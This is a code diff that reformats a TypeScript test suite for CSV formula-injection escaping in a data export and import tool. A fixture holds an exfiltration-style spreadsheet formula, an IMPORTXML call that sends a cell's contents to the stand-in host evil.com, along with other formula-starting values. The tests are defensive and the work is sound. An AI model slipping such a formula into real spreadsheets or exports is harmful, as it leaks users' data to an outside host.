@@ -27,7 +27,7 @@ const HOSTILE = {
   requirementName: "'quoted by hand",
   requirementDescription: "''twice",
   pathwayName: "=1+1",
-  linkNote: "=IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
+  linkNote: '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
 };
 
 const FORMULA_START = /^[=+\-@\t\r]/;
@@ -41,11 +41,21 @@ describe("CSV formula neutralisation", () => {
     [source, target] = [await openTestDb(), await openTestDb()];
     dir = tempDir();
     const f = factories(source.ds);
-    const requirement = await f.requirement({ code: "FORMULA_EXAM", name: HOSTILE.requirementName, description: HOSTILE.requirementDescription, scoreMin: 0, scoreMax: 300 });
+    const requirement = await f.requirement({
+      code: "FORMULA_EXAM",
+      name: HOSTILE.requirementName,
+      description: HOSTILE.requirementDescription,
+      scoreMin: 0,
+      scoreMax: 300,
+    });
     const specialty = await f.specialty({ slug: "formula-specialty", name: HOSTILE.specialtyName });
     const pathway = await f.pathway({ slug: "formula-pathway", name: HOSTILE.pathwayName }, [{ requirement }]);
     await source.ds.getRepository(PathwayRequirement).update({ pathwayId: pathway.id }, { note: HOSTILE.linkNote });
-    const institution = await f.institution({ slug: "formula-institution", name: HOSTILE.institutionName, city: HOSTILE.city });
+    const institution = await f.institution({
+      slug: "formula-institution",
+      name: HOSTILE.institutionName,
+      city: HOSTILE.city,
+    });
     await f.program(
       {
         slug: "formula-program",
@@ -71,24 +81,49 @@ describe("CSV formula neutralisation", () => {
   it("no cell of an export begins with a formula character; text that would is written with a leading '", async () => {
     const folder = path.join(dir, "first");
     await exportTo(source.ds, "csv", folder, true);
-    const cells = csvFiles(folder).flatMap((file) => (parse(fs.readFileSync(file, "utf8"), { columns: true }) as Record<string, string>[]).flatMap((row) => Object.values(row)));
+    const cells = csvFiles(folder).flatMap((file) =>
+      (parse(fs.readFileSync(file, "utf8"), { columns: true }) as Record<string, string>[]).flatMap((row) =>
+        Object.values(row),
+      ),
+    );
     expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
-    for (const value of [HOSTILE.institutionName, HOSTILE.city, HOSTILE.title, HOSTILE.description, HOSTILE.sourceNote, HOSTILE.specialtyName, HOSTILE.pathwayName]) {
+    for (const value of [
+      HOSTILE.institutionName,
+      HOSTILE.city,
+      HOSTILE.title,
+      HOSTILE.description,
+      HOSTILE.sourceNote,
+      HOSTILE.specialtyName,
+      HOSTILE.pathwayName,
+    ]) {
       expect(cells).toContain(`'${value}`);
     }
     // A value that already begins with ' gets one more, so that import can drop exactly one.
     expect(cells).toContain(`''quoted by hand`);
     expect(cells).toContain(`'''twice`);
     // A link list is one JSON cell, which begins with [ whatever its notes hold; numbers stay numbers.
-    const program = (parse(fs.readFileSync(path.join(folder, "programs.csv"), "utf8"), { columns: true }) as Record<string, string>[])[0];
+    const program = (
+      parse(fs.readFileSync(path.join(folder, "programs.csv"), "utf8"), { columns: true }) as Record<string, string>[]
+    )[0];
     expect(program.requirements).toBe('[{"code":"FORMULA_EXAM","level":"REQUIRED","minimumScore":200,"note":null}]');
     expect([program.positions, program.imgPositions]).toEqual(["3", "1"]);
-    const pathway = (parse(fs.readFileSync(path.join(folder, "pathways.csv"), "utf8"), { columns: true }) as Record<string, string>[])[0];
+    const pathway = (
+      parse(fs.readFileSync(path.join(folder, "pathways.csv"), "utf8"), { columns: true }) as Record<string, string>[]
+    )[0];
     expect(JSON.parse(pathway.requirements)[0].note).toBe(HOSTILE.linkNote);
   });
 
   it("only text cells are escaped: a negative number stays a number", () => {
-    const row = toCsvRow("requirements", { code: "X", name: "-minus", kind: "EXAM", country: null, description: null, scoreMin: -5, scoreMax: 10, archivedAt: null });
+    const row = toCsvRow("requirements", {
+      code: "X",
+      name: "-minus",
+      kind: "EXAM",
+      country: null,
+      description: null,
+      scoreMin: -5,
+      scoreMax: 10,
+      archivedAt: null,
+    });
     expect(row).toEqual(["X", "'-minus", "EXAM", null, null, -5, 10, null]);
   });
 
@@ -96,13 +131,17 @@ describe("CSV formula neutralisation", () => {
     const first = path.join(dir, "round-trip-first");
     const { meta } = await exportTo(source.ds, "csv", first, true);
     await importFrom(target.ds, first, "replace");
-    expect((await target.ds.getRepository(Institution).findOneByOrFail({ slug: "formula-institution" })).name).toBe(HOSTILE.institutionName);
+    expect((await target.ds.getRepository(Institution).findOneByOrFail({ slug: "formula-institution" })).name).toBe(
+      HOSTILE.institutionName,
+    );
     expect(await target.ds.getRepository(Program).findOneByOrFail({ slug: "formula-program" })).toMatchObject({
       title: HOSTILE.title,
       description: HOSTILE.description,
       sourceNote: HOSTILE.sourceNote,
     });
-    expect((await target.ds.getRepository(Specialty).findOneByOrFail({ slug: "formula-specialty" })).name).toBe(HOSTILE.specialtyName);
+    expect((await target.ds.getRepository(Specialty).findOneByOrFail({ slug: "formula-specialty" })).name).toBe(
+      HOSTILE.specialtyName,
+    );
     expect(await target.ds.getRepository(Requirement).findOneByOrFail({ code: "FORMULA_EXAM" })).toMatchObject({
       name: HOSTILE.requirementName,
       description: HOSTILE.requirementDescription,
@@ -111,7 +150,8 @@ describe("CSV formula neutralisation", () => {
     expect(json.meta.sha256).toBe(meta.sha256);
     const second = path.join(dir, "second");
     await exportTo(target.ds, "csv", second, true);
-    for (const [a, b] of csvFiles(first).map((file, i) => [file, csvFiles(second)[i]])) expect(fs.readFileSync(b)).toEqual(fs.readFileSync(a));
+    for (const [a, b] of csvFiles(first).map((file, i) => [file, csvFiles(second)[i]]))
+      expect(fs.readFileSync(b)).toEqual(fs.readFileSync(a));
     expect(fs.readFileSync(path.join(second, "programs.csv"), "utf8")).toContain(`,'${HOSTILE.title},`);
   });
 });
